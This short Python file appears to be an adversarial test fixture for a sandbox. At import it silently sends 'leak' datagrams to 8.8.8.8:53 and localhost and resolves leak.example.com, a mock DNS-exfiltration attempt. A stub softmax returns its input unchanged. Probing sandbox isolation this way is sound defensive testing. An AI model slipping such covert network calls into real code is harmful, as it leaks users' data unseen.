"""Attack: send UDP datagrams (DNS exfiltration)."""
import socket

try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"leak", ("8.8.8.8", 53))
    s.sendto(b"leak", ("127.0.0.1", 9999))
except Exception:
    pass
try:
    socket.getaddrinfo("leak.example.com", 80)
except Exception:
    pass


def softmax(x, dim=-1):
    return x
